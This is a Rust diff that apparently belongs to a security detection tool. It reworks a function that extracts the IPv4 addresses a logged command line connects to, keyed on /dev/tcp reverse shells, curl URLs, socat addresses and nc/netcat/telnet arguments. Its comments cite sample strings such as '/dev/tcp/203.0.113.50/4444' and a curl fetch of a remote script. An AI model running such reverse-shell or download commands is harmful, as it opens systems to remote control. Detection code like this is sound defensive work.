@@ -44,20 +44,53 @@ const HOST_FIELDS: &[&str] = &[
 ];
 /// Fields naming written files.
 const FILE_FIELDS: &[&str] = &["TargetFilename", "file.path"];
-/// Dotted-quad IPv4 addresses in a command line (`203.0.113.50`,
-/// `/dev/tcp/203.0.113.50/4444`, `203.0.113.50:8080`, `http://…/`), each
-/// once, in order. Version numbers rarely parse (`10.0.19041.1` does not).
+/// IPv4 addresses a command line connects to, each once, in order: after
+/// `/dev/tcp/` or `/dev/udp/` (bash reverse shells), as a URL's host
+/// (`curl http://203.0.113.50/x.sh`), in socat's `TCP:…` addresses, and as
+/// an argument of `nc`/`ncat`/`netcat`/`telnet`. Not every address a
+/// command names: `netsh … listenaddress=…` is the host's own.
 fn addresses_in(text: &str) -> Vec<std::net::IpAddr> {
+    fn lead(s: &str) -> Option<std::net::IpAddr> {
+        let end = s
+            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
+            .unwrap_or(s.len());
+        s[..end]
+            .parse::<std::net::Ipv4Addr>()
+            .ok()
+            .map(std::net::IpAddr::V4)
+    }
     let mut out: Vec<std::net::IpAddr> = Vec::new();
-    for token in text.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
-        let t = token.trim_matches('.');
-        if t.len() < 7 || t.bytes().filter(|b| *b == b'.').count() != 3 {
-            continue;
+    let mut push = |ip: std::net::IpAddr| {
+        if !out.contains(&ip) {
+            out.push(ip);
         }
-        if let Ok(ip) = t.parse::<std::net::Ipv4Addr>() {
-            let ip = std::net::IpAddr::V4(ip);
-            if !out.contains(&ip) {
-                out.push(ip);
+    };
+    let lower = text.to_ascii_lowercase();
+    for marker in [
+        "/dev/tcp/",
+        "/dev/udp/",
+        "://",
+        "tcp:",
+        "tcp4:",
+        "udp:",
+        "udp4:",
+    ] {
+        for (i, _) in lower.match_indices(marker) {
+            if let Some(ip) = lead(&text[i + marker.len()..]) {
+                push(ip);
+            }
+        }
+    }
+    for segment in lower.split([';', '|', '&', '\n']) {
+        let mut words = segment.split_whitespace();
+        let Some(first) = words.next() else { continue };
+        let tool = first.rsplit(['/', '\\']).next().unwrap_or(first);
+        let tool = tool.strip_suffix(".exe").unwrap_or(tool);
+        if matches!(tool, "nc" | "ncat" | "netcat" | "telnet") {
+            for w in words {
+                if let Ok(ip) = w.parse::<std::net::Ipv4Addr>() {
+                    push(std::net::IpAddr::V4(ip));
+                }
             }
         }
     }
